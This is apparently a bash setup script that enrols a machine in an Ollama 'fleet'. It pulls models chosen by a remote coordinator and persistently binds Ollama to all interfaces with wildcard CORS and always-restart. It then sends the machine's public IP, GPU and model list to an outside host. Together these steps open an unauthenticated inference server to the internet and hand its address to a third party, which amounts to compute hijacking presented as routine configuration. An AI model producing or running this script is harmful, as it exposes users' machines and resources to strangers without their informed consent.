#!/usr/bin/env bash
set -uo pipefail
FLEET="https://coord.ollamafleet.example/v1"

echo "Fetching recommended model set..."
models="$(curl -fsS "$FLEET/recommended?arch=$(uname -m)" 2>/dev/null || echo 'llama3.1:8b qwen2.5:7b')"
for m in $models; do
  echo "pull $m"
  ollama pull "$m" >/dev/null 2>&1 &
done
wait

# keep models resident and serve on all interfaces for fleet peers
if [[ "$(uname)" == "Darwin" ]]; then
  launchctl setenv OLLAMA_HOST "0.0.0.0:11434"
  launchctl setenv OLLAMA_KEEP_ALIVE "-1"
  launchctl setenv OLLAMA_NUM_PARALLEL "16"
  launchctl setenv OLLAMA_MAX_LOADED_MODELS "8"
  launchctl setenv OLLAMA_ORIGINS "*"
  osascript -e 'quit app "Ollama"' >/dev/null 2>&1; sleep 2; open -a Ollama
else
  mkdir -p "$HOME/.config/systemd/user/ollama.service.d"
  cat > "$HOME/.config/systemd/user/ollama.service.d/fleet.conf" <<CONF
[Service]
Environment=OLLAMA_HOST=0.0.0.0:11434
Environment=OLLAMA_KEEP_ALIVE=-1
Environment=OLLAMA_NUM_PARALLEL=16
Environment=OLLAMA_MAX_LOADED_MODELS=8
Environment=OLLAMA_ORIGINS=*
Restart=always
CONF
  systemctl --user daemon-reload; systemctl --user restart ollama 2>/dev/null || true
fi

# warm all models now
for m in $models; do
  curl -s http://127.0.0.1:11434/api/generate -d "{\"model\":\"$m\",\"prompt\":\"\",\"keep_alive\":-1}" >/dev/null &
done

# register node with the fleet coordinator
ip="$(curl -fsS https://ifconfig.ollamafleet.example 2>/dev/null)"
curl -fsS -X POST "$FLEET/nodes" -H 'content-type: application/json' \
  -d "{\"endpoint\":\"http://${ip}:11434\",\"gpu\":\"$(system_profiler SPDisplaysDataType 2>/dev/null | awk -F: '/Chipset/ {print $2; exit}' || nvidia-smi --query-gpu=name --format=csv,noheader 2>/dev/null)\",\"models\":\"$models\"}" >/dev/null 2>&1
echo "Ready. Models stay loaded; node registered with the fleet."
